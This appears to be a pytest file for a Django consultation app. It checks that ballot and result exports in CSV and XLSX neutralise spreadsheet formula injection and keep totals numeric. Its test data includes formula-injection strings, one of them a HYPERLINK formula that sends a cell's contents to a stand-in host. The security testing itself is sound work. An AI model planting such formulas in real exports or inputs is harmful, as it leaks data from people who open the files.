"""Issue 15 §4, the attacker: children type formulas into the open question of a consultation
(through the voting form), and staff write them into prompts and options; the officer downloads
the aggregates and the anonymous ballots as CSV and XLSX. No cell of any download is a formula
or a text a spreadsheet would evaluate, and the figures stay numbers."""

from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from forumanak.consultations import services
from forumanak.consultations.models import Answer, Consultation
from tests.cell_checks import PAYLOADS, body, csv_fields, shown_as_text, xlsx_cells
from tests.conftest import sign_in_with_second_factor
from tests.consultations.conftest import QUESTIONS, make_consultation, make_member, post_data

pytestmark = pytest.mark.django_db

STAFF_TEXT = ['=HYPERLINK("http://x?leak="&A1,"klik")', "-2+3", "@SUM(1,1)", "+1+1"]
VOTERS = 15  # one group, well above the suppression threshold: the totals are shown


def _questions():
    questions = [dict(q) for q in QUESTIONS]
    questions[0].update(prompt=STAFF_TEXT[0], choices_text="\n".join(STAFF_TEXT[1:]))
    return questions


@pytest.fixture
def closed(client, city, django_capture_on_commit_callbacks):
    consultation = make_consultation(city["forums"]["city"], questions=_questions())
    url = reverse("consultations:detail", args=[consultation.slug])
    texts = [*PAYLOADS, *[f"Usul {n}" for n in range(VOTERS - len(PAYLOADS))]]
    for index, text in enumerate(texts):
        client.force_login(make_member(city).user)
        response = client.post(url, post_data(consultation, single=str(index % 3), text=text))
        assert response.status_code == 302, text
    client.logout()
    Consultation.objects.filter(pk=consultation.pk).update(closes_at=timezone.now() - timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True):
        services.close(consultation_id=consultation.pk)
    return consultation


def _download(client, consultation, kind, fmt):
    response = client.get(reverse("consultations_admin_download", args=[consultation.pk, kind, fmt]))
    assert response.status_code == 200, (kind, fmt)
    return body(response)


def test_ballot_downloads_hold_no_formula(client, closed, pembina):
    stored = set(Answer.objects.exclude(text="").exclude(text__startswith="Usul").values_list("text", flat=True))
    assert len(stored) == len(PAYLOADS) - 2  # the form trims " =1" and "\t=1" to "=1", as "\r=1"
    expected = {shown_as_text(text) for text in stored} | {shown_as_text(t) for t in STAFF_TEXT}
    sign_in_with_second_factor(client, pembina)

    rows = csv_fields(_download(client, closed, "surat-suara", "csv"))
    assert expected <= {field for row in rows for field in row}

    cells = xlsx_cells(_download(client, closed, "surat-suara", "xlsx"))
    assert expected <= {c.value for c in cells}


def test_aggregate_downloads_hold_no_formula_and_keep_numbers(client, closed, pembina):
    sign_in_with_second_factor(client, pembina)
    expected = {shown_as_text(t) for t in STAFF_TEXT}

    rows = csv_fields(_download(client, closed, "hasil", "csv"))
    assert expected <= {field for row in rows for field in row}
    assert [row[4] for row in rows if row[1] == "semua peserta"] == [str(VOTERS)]

    cells = xlsx_cells(_download(client, closed, "hasil", "xlsx"))
    assert expected <= {c.value for c in cells}
    totals = [c for c in cells if c.column == 5 and c.row == 2]
    assert [(c.value, c.data_type) for c in totals] == [(VOTERS, "n")]
